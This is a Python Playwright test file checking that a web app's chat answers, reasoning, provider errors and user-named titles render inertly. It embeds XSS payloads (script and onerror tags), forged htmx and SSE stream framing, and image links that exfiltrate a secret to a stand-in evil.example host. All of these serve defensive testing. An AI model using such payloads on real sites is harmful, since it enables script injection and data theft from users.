"""What models, providers and people write is shown, and does nothing: in every place it can be seen.

Cases 13 to 20 of our list of attacks, in a real browser: no script of a payload runs, nothing is asked of another
host, and the policy has nothing to stop, because nothing that it would stop is there.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Locator, Page, expect

from dataelan_web.extensions import db
from dataelan_web.models import PromptSession, Provider
from tests import people
from tests.test_markdown import payloads

from . import steps
from .hostile import Hostile, hostile_provider

Opener = Callable[..., Page]

PAYLOADS = payloads()
THIRDS = ["\n\n".join(PAYLOADS[start::3]) for start in range(3)]
SHORT = [payload for payload in PAYLOADS if len(payload) < 100 and "\n" not in payload]
IN_ONE_LINE = "<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>\"' onfocus=window.__pwned=1 x='"

STRANGERS = (
    ".answer.markdown",
    ".live-text",
    ".reasoning-text",
    ".prompt-text",
    ".notice",
    ".facts",
    ".receipt-body",
    ".found",
)
"""Where text from outside is shown."""

WHAT_IT_BECAME = """places => {
  const never = new Set(('script img iframe object embed form input textarea select style link meta base video audio'
    + ' source template dialog image animate set foreignobject math body marquee').split(' '));
  const onlyOurs = new Set(['svg', 'use', 'details', 'time']);
  const button = ['type', 'data-copy', 'data-ending', 'data-variant', 'data-size'];
  const own = {
    a: ['href', 'rel', 'target', 'download', 'data-variant', 'data-size'], ol: ['start'], use: ['href'], button,
    time: ['datetime'], details: ['open'], dd: ['data-since'],
  };
  const everywhere = ['class', 'id', 'tabindex', 'role', 'aria-label', 'aria-hidden', 'title', 'hidden', 'scope'];
  const wrong = [];
  for (const place of document.querySelectorAll(places)) for (const e of place.querySelectorAll('*')) {
    if (e.closest('.found-list > li > form.inline-form, .found-acts > form.inline-form')) continue;  // to tick, keep
    const name = e.localName;
    const isTheirs = e.closest('.answer.markdown, .live-text, .reasoning-text, .prompt-text');
    if (never.has(name) || (isTheirs && onlyOurs.has(name))) wrong.push('<' + name + '>');
    for (const { name: attribute, value } of e.attributes) {
      const said = name + '[' + attribute + '=' + value + ']';
      const mayHave = [...(own[name] ?? []), ...(isTheirs ? ['class', 'tabindex'] : everywhere)];
      if (!mayHave.includes(attribute)) wrong.push(said);
      if (isTheirs && attribute === 'href' && !/^(https?:\\/\\/|mailto:)/i.test(value)) wrong.push(said);
      if (attribute === 'data-ending' && !/^[a-z0-9]{1,10}$/.test(value)) wrong.push(said);
      if (attribute === 'rel' && value !== 'noopener noreferrer nofollow') wrong.push(said);
    }
  }
  return wrong;
}"""
"""What stands where only text should: elements and attributes that are not of our making."""

POINT_AT_SOME = """all => {
  const how = { bubbles: true, cancelable: true, composed: true };
  for (const e of all.slice(0, 40).filter((_, place) => place % 4 === 0)) {
    e.dispatchEvent(new MouseEvent('mouseover', how));
    e.dispatchEvent(new FocusEvent('focus', how));
  }
}"""


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    with hostile_provider() as provider:
        yield provider


@pytest.fixture
def model(acme: people.Cast, hostile: Hostile) -> str:
    """The model that says what the test wants, by its name in the picker; its provider has a hostile name too."""
    key = people.own_provider(acme, hostile.url)
    provider = db.session.get_one(Provider, key.provider_id)
    provider.name = key.label = IN_ONE_LINE[:180]
    people.own_model(acme, key, "hostile", input=1000, output=1000, display_name=IN_ONE_LINE)
    db.session.commit()
    return f"{provider.slug}/hostile"


@pytest.fixture
def session(open_page: Opener, acme: people.Cast, model: str) -> Page:
    page = open_page(acme.olivia)
    page.goto(acme.session_url)
    return page


def assert_inert(page: Page) -> None:
    """Nothing ran, nothing was asked of anybody else, nothing became an element."""
    assert page.evaluate("window.__pwned") is None
    assert page.watch.dialogs == []  # type: ignore[attr-defined]
    assert page.watch.elsewhere == []  # type: ignore[attr-defined]
    assert page.watch.complaints == [], "the policy had something to stop"  # type: ignore[attr-defined]
    assert page.context.pages == [page], "something opened a window"
    assert [frame.url for frame in page.frames] == [page.url]
    assert page.evaluate(WHAT_IT_BECAME, ", ".join(STRANGERS)) == []
    assert (
        page.evaluate("[...document.querySelectorAll('[style], [srcdoc], [onload], [onerror], [onclick]')].length") == 0
    )


@pytest.mark.parametrize(("part", "is_lifted"), [(0, False), (1, True), (2, False)])
def test_an_answer_and_its_reasoning_are_inert_while_they_stream_and_after(
    open_page: Opener, acme: people.Cast, hostile: Hostile, model: str, part: int, is_lifted: bool
) -> None:
    """With the policy, and without it: what is shown was made safe before."""
    assert len(PAYLOADS) > 200
    session = open_page(acme.olivia, **({"bypass_csp": True} if is_lifted else {}))
    session.goto(acme.session_url)
    hostile.text, hostile.reasoning = THIRDS[part], THIRDS[(part + 1) % 3]
    posts = posts_of(session)
    with hostile.unfinished():
        run = steps.ask(session, THIRDS[(part + 2) % 3], model)
        steps.wait_for_text(session, 500)
        assert_inert(session)
    steps.finished(run)
    run.get_by_text("Thinking", exact=True).click()
    touch(session, run)
    assert_inert(session)
    assert stays(session, acme)
    sent = [url.split("/")[-1] for url in posts]
    assert [what for what in sent if what != "quote"] == ["executions"], "an htmx attribute of the answer did something"
    assert steps.stored(run).body.reasoning, "the attack did arrive"

    session.reload()
    steps.finished(steps.card(session))
    assert_inert(session)
    session.goto(f"{acme.home}/executions/{steps.id_of(run)}")
    session.locator(".found details").evaluate_all("rows => rows.forEach(row => { row.open = true })")
    assert_inert(session)


AS_THEY_ARE = """(answer, payloads) => {
  answer.replaceChildren();
  for (const html of payloads) answer.append(document.createRange().createContextualFragment(html));
}"""
"""What an answer would be if nobody had made it safe; scripts in such a fragment run as those of the page do."""


def test_the_policy_alone_lets_nothing_run_or_load_where_nothing_was_made_safe(
    open_page: Opener, acme: people.Cast, hostile: Hostile, model: str
) -> None:
    """But for a page's own refresh, which no policy stops: of Markdown it never becomes an element."""
    page = open_page(acme.olivia, strict=False)
    page.goto(acme.session_url)
    hostile.text = "Safe so far"
    run = steps.finished(steps.ask(page, "Hello", model))
    posts, stopped = posts_of(page), list[str]()
    page.on("requestfailed", lambda request: request.failure == "csp" and stopped.append(request.url))
    bare = [payload for payload in PAYLOADS if "http-equiv" not in payload.lower()]
    run.locator(".answer").evaluate(AS_THEY_ARE, bare)
    touch(page, run)
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned") is None
    assert sorted(page.watch.elsewhere) == sorted(stopped)  # type: ignore[attr-defined]
    assert page.watch.complaints, "the policy had something to stop"  # type: ignore[attr-defined]
    assert page.context.pages == [page]
    assert posts == []
    assert stays(page, acme)


def test_a_failure_in_the_provider_s_words_is_inert(session: Page, hostile: Hostile, model: str) -> None:
    for start in range(0, 50, 10):
        hostile.error = " ".join(SHORT[start : start + 10])
        run = steps.finished(steps.ask(session, "Fail, please", model))
        assert run.get_attribute("data-state") == "failed"
        run.locator(".receipt > summary").click()
        assert_inert(session)
    expect(session.locator(".run .notice").first).to_contain_text("__pwned")


def test_titles_and_names_are_inert_wherever_they_are_shown(
    open_page: Opener, acme: people.Cast, hostile: Hostile, model: str
) -> None:
    acme.organization.name, acme.olivia.name = IN_ONE_LINE[:100], IN_ONE_LINE[:100]
    acme.project.name, acme.project.description = IN_ONE_LINE[:200], IN_ONE_LINE
    for payload in SHORT[:40]:
        db.session.add(PromptSession(project=acme.project, title=payload, created_by=acme.olivia.id))
    acme.session.title = IN_ONE_LINE
    db.session.commit()
    page = open_page(acme.olivia)
    page.goto(acme.session_url)
    title = page.get_by_label("Session title")
    hostile.text = SHORT[40]
    steps.finished(steps.ask(page, SHORT[41], model))
    for payload in SHORT[40:44]:
        title.fill(payload)
        with page.expect_response("**/title"):
            title.press("Enter")
        assert_inert(page)
    project = f"{acme.home}/projects/{acme.project.id}"
    for url in (f"{acme.home}/", project, f"{acme.home}/hub/providers", f"{acme.home}/hub/models", f"{project}/tokens"):
        page.goto(url)
        assert_inert(page)
    page.get_by_label("What is it for?").fill(IN_ONE_LINE[:100])
    page.get_by_role("button", name="Create token").click()
    page.locator("#secret").wait_for()
    page.get_by_role("button", name="Revoke").click()
    expect(page.locator("#confirm-title")).to_contain_text("__pwned")
    assert_inert(page)


def test_images_are_told_and_never_asked_for(session: Page, hostile: Hostile, model: str) -> None:
    secret = uuid.uuid4().hex
    hostile.text = (
        f"![a](https://evil.example/?d={secret}) ![b](//evil.example/?d={secret}) ![c][r] ![d](/logout)\n\n"
        f"[r]: https://evil.example/?d={secret}\n\n<img src=https://evil.example/?d={secret}>\n\n"
        f"<svg><image href=https://evil.example/?d={secret} /></svg>"
    )
    run = steps.finished(steps.ask(session, "Show me pictures", model))
    assert run.locator(".answer img").count() == 0
    assert run.locator(".image-placeholder").count() > 0
    assert_inert(session)


def test_what_looks_like_ours_stays_words(session: Page, hostile: Hostile, model: str) -> None:
    """A partial, an end of stream, a card of its own: the framing of our stream, as an answer."""
    forged = (
        '<hx-partial hx-target="#totals" hx-swap="outerHTML">$0</hx-partial>\n\nevent: done\ndata:\n\nid: 9-9\n\n'
        '</div></article><article class="run" id="forged">Sign in again</article>\r\ndata: <b id="forged">x</b>\n\n'
        '<div hx-sse:connect="/evil" hx-trigger="load" hx-get="/logout">x</div>'
    )
    hostile.text = hostile.reasoning = forged
    run = steps.ask(session, forged, model)
    steps.finished(run)
    assert session.locator("#forged").count() == 0
    assert session.locator(".run").count() == 1
    expect(session.locator("#totals")).to_contain_text("run1")
    assert steps.live_text(run) == forged
    assert_inert(session)


def posts_of(page: Page) -> list[str]:
    urls: list[str] = []
    page.on("request", lambda request: request.method != "GET" and urls.append(request.url))
    return urls


def touch(page: Page, run: Locator) -> None:
    """What a person does by chance: point at things, and let the page settle."""
    run.locator(".answer *").evaluate_all(POINT_AT_SOME)
    page.mouse.wheel(0, -2000)
    page.wait_for_timeout(150)


def stays(page: Page, acme: people.Cast) -> bool:
    return page.url.endswith(acme.session_url)
